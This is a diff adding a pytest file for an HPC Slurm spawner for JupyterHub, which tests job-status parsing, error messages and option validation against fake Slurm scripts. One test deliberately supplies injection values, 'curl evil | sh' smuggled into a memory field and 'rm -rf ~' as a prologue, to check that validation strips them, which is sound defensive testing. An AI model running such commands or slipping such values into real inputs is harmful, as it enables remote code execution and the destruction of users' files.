@@ -1,0 +1,102 @@
+"""The spawner against fake Slurm commands (shell scripts): a fast check of its decisions, in addition to the
+end-to-end Molecule runs against a real Slurm."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import pwd
+import stat
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+from batchspawner.batchspawner import JobStatus
+from hpc_spawner import HPCSlurmSpawner
+
+CLUSTER = {
+    "name": "demo",
+    "max_walltime": "7d",
+    "account_prefixes": ["def-"],
+    "node_types": {"cpu": {"cores": 4, "memory": 8000}},
+    "form": {
+        "time": {"min": 0.5, "default": 1, "max": 8},
+        "cores": {"min": 1, "default": 1, "max": 4},
+        "memory": {"min": 256, "default": 512, "max": 8000},
+    },
+}
+
+
+def fake(tmp_path: Path, name: str, body: str) -> str:
+    script = tmp_path / name
+    script.write_text(f"#!/bin/sh\n{body}\n")
+    script.chmod(script.stat().st_mode | stat.S_IXUSR)
+    return str(script)
+
+
+def spawner(tmp_path: Path, **config: Any) -> HPCSlurmSpawner:
+    # The spawner looks the user up in the password database: use the account running the tests.
+    name = pwd.getpwuid(os.getuid()).pw_name
+    user = SimpleNamespace(name=name, url=f"/user/{name}/", escaped_name=name, id=1)
+    hub = SimpleNamespace(
+        public_host="", api_url="http://hub:8081/hub/api", base_url="/hub/", url="http://hub:8081/hub/", host=""
+    )
+    s = HPCSlurmSpawner(
+        user=user,
+        hub=hub,
+        cluster=CLUSTER,
+        exec_prefix="",
+        accounts_cmd=fake(tmp_path, "sacctmgr", "echo def-alice"),
+        req_homedir=str(tmp_path),
+        req_keepvars="PATH",
+        **config,
+    )
+    return s
+
+
+@pytest.mark.parametrize(
+    ("answer", "status"),
+    [
+        ("echo 'RUNNING node1'", JobStatus.RUNNING),
+        ("echo 'PENDING (Resources)'", JobStatus.PENDING),
+        ("true", JobStatus.NOTFOUND),  # an empty answer: the job is gone
+        ("echo 'slurm_load_jobs error: Invalid job id specified' >&2; exit 1", JobStatus.NOTFOUND),
+        ("echo 'slurm_load_jobs error: Unable to contact slurm controller' >&2; exit 1", JobStatus.UNKNOWN),
+        ("echo 'sudo: unable to resolve host' >&2; exit 1", JobStatus.UNKNOWN),
+    ],
+)
+def test_only_slurm_saying_so_means_the_job_is_gone(tmp_path: Path, answer: str, status: JobStatus) -> None:
+    s = spawner(tmp_path, batch_query_cmd=fake(tmp_path, "squeue", answer) + " {job_id}")
+    s.job_id = "42"
+    assert asyncio.run(s.query_job_status()) == status
+
+
+def test_slurm_refusal_is_reported_in_slurms_words(tmp_path: Path) -> None:
+    sbatch = fake(tmp_path, "sbatch", "cat >/dev/null; echo 'sbatch: error: Invalid account' >&2; exit 1")
+    s = spawner(tmp_path, batch_submit_cmd=sbatch)
+
+    async def submit() -> None:
+        await s.apply_options({"account": "def-alice"})
+        await s.submit_batch_script()
+
+    with pytest.raises(RuntimeError) as err:
+        asyncio.run(submit())
+    assert str(err.value) == "Slurm refused the job: sbatch: error: Invalid account"
+
+
+def test_only_validated_values_reach_the_job_script(tmp_path: Path) -> None:
+    captured = tmp_path / "script.sh"
+    sbatch = fake(tmp_path, "sbatch", f"cat >{captured}; echo 7")
+    s = spawner(tmp_path, batch_submit_cmd=sbatch, batch_script="#SBATCH --mem={memory}\n{prologue}\n{cmd}\n")
+    # What a crafted API request might carry, next to valid values, once validation has passed.
+    s.user_options = {"memory": "1G; curl evil | sh", "prologue": "rm -rf ~"}
+
+    async def submit() -> Any:
+        await s.apply_options({"account": "def-alice", "memory": "1024"})
+        return await s.submit_batch_script()
+
+    assert asyncio.run(submit()) == "7"
+    script = captured.read_text()
+    assert "#SBATCH --mem=1024M" in script
+    assert "evil" not in script and "rm -rf" not in script
